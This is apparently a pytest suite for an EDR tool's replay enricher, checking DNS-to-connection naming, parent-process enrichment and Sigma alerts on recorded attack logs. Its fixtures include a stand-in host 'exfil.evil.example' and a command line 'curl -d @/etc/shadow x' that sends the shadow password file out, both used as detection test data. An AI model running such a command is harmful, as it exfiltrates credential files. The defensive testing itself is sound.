"""Replay runs the live enricher's correlations over what a recording holds (issue #15).

- A recorded DNS answer names a later recorded connection to the answered
  address (``DestinationHostname``), as live does, through the real
  ``edr replay`` command: the events it writes, and a Sigma rule on the name.
- A recorded process creation names its children's parent (image, command
  line, user) where the child's record lacks them.
- Nothing of this machine is looked up (running processes, user names), and
  nothing crosses from one recording, or one recorded host, to another.
"""

from __future__ import annotations

import os
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
import pytest

from edr.enrich.enricher import Enricher
from edr.enrich.process_cache import ProcessCache
from edr.enrich.replay import ReplayEnricher
from edr.event import DNS_QUERY, NETWORK_CONNECTION, PROCESS_CREATION, PROCESS_TERMINATION, Event, F
from tests.cli_helpers import read_alerts, run_edr, write_ndjson

T0 = 1_763_000_000.0
ADDRESS = "203.0.113.7"
NAME = "exfil.evil.example"
#: A Sigma rule that needs the enriched name.
RULE = f"""\
title: Connection to the exfiltration host
id: 5e0c3a52-2b8f-4d7c-9a61-0f3c1b2d4e5f
status: test
logsource:
  product: linux
  category: network_connection
detection:
  selection:
    DestinationHostname: {NAME}
  condition: selection
level: high
"""


def dns_answer(ts: float = T0, pid: int = 4242, address: str = ADDRESS) -> dict[str, Any]:
    """A dns_query record as the Linux sensor writes it (Sysmon's QueryResults format)."""
    return {"ts": ts, "seq": 1, "category": DNS_QUERY, "product": "linux",
            "fields": {"ProcessId": pid, "Image": "/usr/bin/curl", "QueryName": NAME, "QueryStatus": "0",
                       "QueryResults": f"type:  5 cdn.example;::ffff:{address};"}}


def connection(ts: float = T0 + 1, pid: int = 4242, address: str = ADDRESS) -> dict[str, Any]:
    """A network_connection record without a destination name (the sensor does not resolve one)."""
    return {"ts": ts, "seq": 2, "category": NETWORK_CONNECTION, "product": "linux",
            "fields": {"ProcessId": pid, "Image": "/usr/bin/curl", "Protocol": "tcp", "Initiated": "true",
                       "SourceIp": "10.0.0.5", "SourcePort": 50123, "DestinationIp": address,
                       "DestinationPort": 443}}


def event(record: dict[str, Any], path: str = "rec.ndjson", product: str | None = None) -> Event:
    return Event(category=record["category"], product=product or record["product"],
                 fields=dict(record["fields"]), timestamp=record["ts"], origin={"log.file.path": path})


def read_events(directory: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for f in sorted(directory.glob("events.json.*"))
            for line in f.read_bytes().splitlines()]


def test_replayed_dns_answer_names_a_later_connection_as_live(workdir: Path) -> None:
    records = [dns_answer(), connection(), connection(ts=T0 + 2, address="198.51.100.9")]
    recording = write_ndjson(workdir / "recorded.ndjson", records)
    rule = workdir / "rule.yml"
    rule.write_text(RULE)
    (workdir / "edr.toml").write_text(
        f'[scanner]\nsigma_rules_path = "{rule}"\n[sigma]\ncache_dir = ""\n[ioc]\nenabled = false\n'
        '[events]\nenabled = true\n')
    r = run_edr(["replay", "--config", "edr.toml", "--output", "logs", "--no-progress", str(recording)], cwd=workdir)
    assert r.returncode == 0, r.stderr
    written = read_events(workdir / "logs")
    assert [e["category"] for e in written] == [DNS_QUERY, NETWORK_CONNECTION, NETWORK_CONNECTION]
    replayed = [e["fields"].get(F.DESTINATION_HOSTNAME) for e in written[1:]]
    # what the live enricher makes of the same events in the same order
    live = Enricher()
    expected = [live.process(event(rec)).fields.get(F.DESTINATION_HOSTNAME) for rec in records][1:]
    assert replayed == expected == [NAME, None]
    alerts = read_alerts(workdir / "logs")
    assert [(a["rule.id"], a["edr.log.line"]) for a in alerts] == [("5e0c3a52-2b8f-4d7c-9a61-0f3c1b2d4e5f", 2)]


def test_an_answer_names_connections_within_its_lifetime_only() -> None:
    replay = ReplayEnricher()
    replay.process(event(dns_answer()))
    assert replay.process(event(connection(ts=T0 + 299))).fields[F.DESTINATION_HOSTNAME] == NAME
    # the live cache keeps an answer at least 300 s of event time, whatever its TTL
    assert F.DESTINATION_HOSTNAME not in replay.process(event(connection(ts=T0 + 301))).fields


def test_a_recorded_name_is_kept() -> None:
    replay = ReplayEnricher()
    replay.process(event(dns_answer()))
    rec = connection()
    rec["fields"][F.DESTINATION_HOSTNAME] = "recorded.example"
    assert replay.process(event(rec)).fields[F.DESTINATION_HOSTNAME] == "recorded.example"


def test_answers_do_not_cross_recordings_or_hosts() -> None:
    replay = ReplayEnricher()
    replay.process(event(dns_answer(), path="a.ndjson"))
    assert F.DESTINATION_HOSTNAME not in replay.process(event(connection(), path="b.ndjson")).fields
    # one forwarded Windows log holding two hosts
    answer, conn = dns_answer(), connection()
    answer["fields"]["Computer"], conn["fields"]["Computer"] = "PC01", "PC02"
    replay.process(event(answer, path="fwd.evtx", product="windows"))
    assert F.DESTINATION_HOSTNAME not in replay.process(event(conn, path="fwd.evtx", product="windows")).fields
    conn["fields"]["Computer"] = "PC01"
    assert replay.process(event(conn, path="fwd.evtx", product="windows")).fields[F.DESTINATION_HOSTNAME] == NAME
    # and back to the first recording: its timeline is still there
    assert replay.process(event(connection(), path="a.ndjson")).fields[F.DESTINATION_HOSTNAME] == NAME


def test_only_the_most_recent_timelines_are_kept() -> None:
    replay = ReplayEnricher(max_scopes=2)
    replay.process(event(dns_answer(), path="a.ndjson"))
    replay.process(event(dns_answer(), path="b.ndjson"))
    replay.process(event(dns_answer(), path="c.ndjson"))  # a's timeline dropped
    assert F.DESTINATION_HOSTNAME not in replay.process(event(connection(), path="a.ndjson")).fields
    assert replay.process(event(connection(), path="c.ndjson")).fields[F.DESTINATION_HOSTNAME] == NAME
    stats = replay.statistics()
    assert (stats["events"], stats["timelines"], stats["timelines_opened"], stats["timelines_dropped"]) == (
        5, 2, 4, 2)


def creation(pid: int, ppid: int, image: str, command_line: str, ts: float, **extra: Any) -> dict[str, Any]:
    return {"ts": ts, "seq": 0, "category": PROCESS_CREATION, "product": "linux",
            "fields": {"ProcessId": pid, "ParentProcessId": ppid, "Image": image, "CommandLine": command_line,
                       **extra}}


def test_a_recorded_process_creation_names_its_childrens_parent() -> None:
    replay = ReplayEnricher()
    replay.process(event(creation(500, 1, "/usr/bin/bash", "bash -i", T0, User="alice")))
    child = replay.process(event(creation(501, 500, "/usr/bin/curl", "curl -d @/etc/shadow x", T0 + 1)))
    f = child.fields
    assert (f[F.PARENT_IMAGE], f[F.PARENT_COMMAND_LINE], f[F.PARENT_USER]) == ("/usr/bin/bash", "bash -i", "alice")
    # a later event of the child that lacks its image gets it; its termination, the command line
    end = {"ts": T0 + 2, "seq": 0, "category": PROCESS_TERMINATION, "product": "linux", "fields": {"ProcessId": 501}}
    f = replay.process(event(end)).fields
    assert (f[F.IMAGE], f[F.COMMAND_LINE]) == ("/usr/bin/curl", "curl -d @/etc/shadow x")
    # what a record holds wins
    own = replay.process(event(creation(502, 500, "/usr/bin/id", "id", T0 + 3, ParentImage="/bin/sh")))
    assert own.fields[F.PARENT_IMAGE] == "/bin/sh"


def test_an_empty_recorded_command_line_is_not_given_as_the_parents() -> None:
    # 4688 records made without command-line auditing hold CommandLine "": unknown, not empty
    replay = ReplayEnricher()
    replay.process(event(creation(600, 4, "C:\\Windows\\System32\\cmd.exe", "", T0)))
    f = replay.process(event(creation(601, 600, "C:\\Windows\\System32\\whoami.exe", "whoami", T0 + 1))).fields
    assert f[F.PARENT_IMAGE] == "C:\\Windows\\System32\\cmd.exe" and F.PARENT_COMMAND_LINE not in f


def test_nothing_of_this_machine_is_looked_up() -> None:
    replay = ReplayEnricher()
    # this process runs here, but the recording never said so
    mine = {"ts": T0, "seq": 0, "category": NETWORK_CONNECTION, "product": "linux",
            "fields": {"ProcessId": os.getpid(), "DestinationIp": ADDRESS, "Uid": 0}}
    f = replay.process(event(mine)).fields
    assert F.IMAGE not in f and F.PARENT_PROCESS_ID not in f
    # uid 0 is root here; the recording's host may name it otherwise, so it stays unnamed
    assert F.USER not in f
    # live names it from this machine's user database
    assert Enricher().process(event(mine)).fields[F.USER] == "root"


def test_each_timeline_has_the_configured_process_bounds() -> None:
    made: list[ProcessCache] = []

    def cache() -> ProcessCache:
        made.append(ProcessCache(max_entries=2))
        return made[-1]

    replay = ReplayEnricher(processes=cache)
    for n in range(4):
        replay.process(event(creation(700 + n, 1, "/bin/true", "true", T0 + n)))
    assert len(made) == 1 and len(made[0]) == 2 and made[0].evictions == 2


def test_max_scopes_must_be_positive() -> None:
    with pytest.raises(ValueError, match="max_scopes must be at least 1, not 0"):
        ReplayEnricher(max_scopes=0)


# --- the attack samples -------------------------------------------------------------------------

#: (rule, file, record) the replay enricher adds on the attack samples with SigmaHQ's rules/, each from
#: the user or image of a parent whose creation the same recording holds (older Sysmon records have no
#: ParentUser; 4688 version 1 has no ParentProcessName).
EXPECTED_ENRICHED = {
    # WmiPrvSE.exe (SYSTEM, its 4688 recorded just before) starts calc.exe as NETWORK SERVICE: WMI lateral movement
    ("d2b7a134-9c3e-4f8a-b56d-e0c1f8a29b47", "LM_WMI_4624_4688_TargetHost.evtx", 6),
    # notepad.exe as IIS APPPOOL\DefaultAppPool starts notepad.exe as SYSTEM: Rotten Potato from a web shell
    ("d2b7a134-9c3e-4f8a-b56d-e0c1f8a29b47", "privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx", 11),
    # a NETWORK SERVICE / LOCAL SERVICE exploit starts a SYSTEM child: the potato escalations
    ("590a5f4c-6c8c-4f10-8307-89afe9453a9d", "EfsPotato_sysmon_17_18_privesc_seimpersonate_to_system.evtx", 5),
    ("590a5f4c-6c8c-4f10-8307-89afe9453a9d", "PrivEsc_Imperson_NetSvc_to_Sys_Decoder_Sysmon_1_17_18.evtx", 8),
    ("590a5f4c-6c8c-4f10-8307-89afe9453a9d", "RogueWinRM.evtx", 3),
    ("590a5f4c-6c8c-4f10-8307-89afe9453a9d", "privesc_roguepotato_sysmon_17_18.evtx", 4),
    # IEUser's C:\Python27\python.exe starts cmd.exe as SYSTEM (logon 0x3e7): the token manipulation
    ("178e615d-e666-498b-9630-9ed363038101", "security_4624_4673_token_manip.evtx", 13),
}


@pytest.mark.shared
@pytest.mark.slow
def test_attack_samples_gain_only_alerts_of_recorded_parents(pytestconfig: pytest.Config,
                                                              tmp_path_factory: pytest.TempPathFactory) -> None:
    from edr.detect.sigma import load_sigma
    from edr.sources.replay.winlog import iter_winlog_events
    from tests.conftest import shared_path

    cache = getattr(pytestconfig, "cache", None)
    cache_dir = cache.mkdir("edr-sigma-cache") if cache is not None else tmp_path_factory.mktemp("sigma-cache")
    engine, report = load_sigma([str(shared_path("sigma", "rules"))], cache_dir=str(cache_dir))
    assert report.loaded > 1000
    before: Counter[tuple[str, str, int]] = Counter()
    after: Counter[tuple[str, str, int]] = Counter()
    for path in sorted(shared_path("evtx-attack-samples").rglob("*.evtx")):
        replay = ReplayEnricher()  # one per file, as the scope of a file would be
        for plain, enriched in zip(iter_winlog_events(path), iter_winlog_events(path), strict=True):
            record = (path.name, int((plain.origin or {})["log.record"]))
            before.update((a.rule_id, *record) for a in engine.match(plain))
            after.update((a.rule_id, *record) for a in engine.match(replay.process(enriched)))
    assert before - after == Counter()
    gained = after - before
    assert set(gained) == EXPECTED_ENRICHED and max(gained.values()) == 1
    print(f"attack samples, SigmaHQ rules/: {sum(before.values())} alerts without the enricher, "
          f"{sum(after.values())} with it")
